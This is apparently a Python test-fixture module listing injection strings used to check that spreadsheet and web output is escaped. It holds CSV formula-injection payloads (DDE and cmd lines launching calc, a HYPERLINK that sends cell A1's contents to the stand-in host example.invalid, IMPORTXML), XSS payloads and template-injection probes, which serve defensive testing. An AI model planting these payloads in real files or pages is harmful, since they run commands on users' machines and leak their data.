"""Texts that a spreadsheet would run, or a page would, if they were not kept as text."""

from __future__ import annotations

_STARTS = ("=", "+", "-", "@", "\t=", " =", "＝", "＋", "－", "＠")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?x="&A1,"点这里")',
    "SUM(A1:A9)",
    'IMPORTXML("http://example.invalid","//a")',
    'DDE("cmd";"/C calc";"__DdeLink_60")',
)
FORMULAS = (
    *(f"{start}{body}" for start in _STARTS for body in _BODIES),
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "http://example.invalid/a",
    "'=1+1",
    "=1+1\nB",
)
